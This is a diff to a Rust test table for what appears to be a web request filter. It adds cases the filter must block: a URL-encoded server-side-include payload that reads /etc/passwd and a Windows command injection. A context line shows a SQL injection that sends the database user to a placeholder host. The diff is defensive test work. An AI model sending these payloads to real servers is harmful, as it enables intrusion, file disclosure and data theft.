@@ -627,6 +627,18 @@ pub fn table() -> Vec<Case> {
         Blocked("sqli", "qs_values"),
     ));
     v.push(case(
+        "query command injection server-side include",
+        "GET",
+        "/search?q=%3C%21--%23exec+cmd%3D%22%2Fbin%2Fcat+%2Fetc%2Fpasswd%22--%3E",
+        Blocked("command", "qs_values"),
+    ));
+    v.push(case(
+        "query command injection with a windows path",
+        "GET",
+        "/search?q=x+%26+dir+C%3A%5CUsers",
+        Blocked("command", "qs_values"),
+    ));
+    v.push(case(
         "query sqli call concatenated to a string",
         "GET",
         "/search?q=%27+%7C%7C+utl_http.request%28%27http%3A%2F%2Fx.example%2F%27%7C%7Cuser%29+%7C%7C+%27",
